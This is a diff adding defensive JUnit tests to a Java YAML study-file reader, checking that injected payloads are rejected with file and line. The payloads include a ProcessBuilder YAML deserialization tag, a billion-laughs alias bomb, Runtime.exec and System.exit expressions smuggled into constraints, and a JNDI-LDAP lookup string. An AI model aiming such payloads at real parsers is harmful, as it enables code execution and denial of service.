@@ -20,6 +20,7 @@ import java.nio.file.Path;
 import java.time.LocalDate;
 import java.util.List;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
@@ -167,6 +168,35 @@ class StudyReaderTest {
     assertEquals("s3a://bucket/bars", parse(STUDY.replace("store: data/bars", "store: s3a://bucket/bars")).store());
   }
 
+  /**
+   * Study files are data: a tag naming a class, an alias bomb and a strategy outside the registry are refused with
+   * the file and line, and nothing runs. (Constraints have a fixed grammar: see the cases of
+   * {@link #badStudiesAreRefusedNamingTheKeyAndValue}.)
+   */
+  @Test
+  void aStudyIsDataTagsAliasesUnknownStrategiesAndExpressionsAreRefused(@TempDir Path temp)
+      throws java.io.IOException {
+    Path file = temp.resolve("evil.yaml");
+    Path touched = temp.resolve("touched");
+    java.nio.file.Files.writeString(file, STUDY.replace("objective: sharpe",
+        "objective: !!java.lang.ProcessBuilder [[touch, " + touched + "]]"));
+    InputException tag = assertThrows(InputException.class, () -> StudyReader.read(file));
+    assertTrue(tag.getMessage().startsWith(file + ":22: the YAML tag '!!java.lang.ProcessBuilder' is not allowed"),
+        tag.getMessage());
+    assertTrue(!java.nio.file.Files.exists(touched), "nothing was run");
+
+    java.nio.file.Files.writeString(file, "laughs: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
+        + "more: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" + "most: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
+        + STUDY);
+    InputException bomb = assertThrows(InputException.class, () -> StudyReader.read(file));
+    assertTrue(bomb.getMessage().startsWith(file + ":1: the anchor '&a' is not allowed"), bomb.getMessage());
+
+    java.nio.file.Files.writeString(file, STUDY.replace("name: sma-cross", "name: io.plateau.strategy.SmaCross"));
+    InputException strategy = assertThrows(InputException.class, () -> StudyReader.read(file));
+    assertTrue(strategy.getMessage().startsWith(file + ":10: strategy.name: unknown strategy "
+        + "'io.plateau.strategy.SmaCross'; known: sma-cross"), strategy.getMessage());
+  }
+
   @Test
   void anAdaptiveSearchTakesHyperoptsDefaults() {
     Study study = parse(STUDY.replace("method: random, count: 7, seed: 3", "method: adaptive, batches: 4, seed: 9"));
@@ -176,12 +206,20 @@ class StudyReaderTest {
   /** Each bad study: the replaced text, and what the message must say (file, key path, value, what is allowed). */
   @ParameterizedTest
   @CsvSource(delimiter = '|', value = {
-      "objective: sharpe|objectve: sharpe|conf/studies/test.yaml: objectve: unknown key; allowed here:",
+      "objective: sharpe|objectve: sharpe|conf/studies/test.yaml:22: objectve: unknown key; allowed here:",
       "session: regular|sessions: regular|bars.sessions: unknown key",
       "bar_size: 5m|bar_size: 7m|bars.bar_size: '7m' is not allowed; expected one of",
       "end: 2023-12-31|end: 2018-12-31|bars.end: '2018-12-31' is not allowed; expected a date after bars.start",
       "start: 2019-01-01|start: 2019-13-01|bars.start: '2019-13-01' is not allowed; expected a date yyyy-mm-dd",
       "name: sma-cross|name: sma-crossing|strategy.name: unknown strategy 'sma-crossing'; known: sma-cross",
+      "name: sma-cross|name: java.lang.Runtime|test.yaml:10: strategy.name: unknown strategy 'java.lang.Runtime'; known:",
+      "fast < slow|fast < slow; System.exit(1)|test.yaml:15: strategy.constraints[0]: constraint 'fast < slow; System.exit(1)' is not 'A OP B'",
+      "fast < slow|Runtime.getRuntime().exec(x) < slow|constraint 'Runtime.getRuntime().exec(x) < slow' is not 'A OP B'",
+      "fast < slow|fast < slow and 1 == 1|constraint 'fast < slow and 1 == 1' is not 'A OP B'",
+      "fast < slow|${jndi:ldap://example.invalid/x} < slow|is not 'A OP B'",
+      "fast < slow|fast + 0 < slow|is not 'A OP B'",
+      "objective: sharpe|objective: !!java.lang.ProcessBuilder [[id]]|test.yaml:22: the YAML tag '!!java.lang.ProcessBuilder' is not allowed",
+      "output: out/runs|output: *runs|test.yaml:23: the alias '*runs' is not allowed",
       "direction: both|direction: sideways|strategy.params.direction: value sideways must be one of [long, short, both]",
       "direction: both|directoin: both|strategy.params.directoin: unknown parameter of sma-cross",
       "slow: [60, 120, 240]|slow: [60, 60]|strategy.params.slow: values repeat",
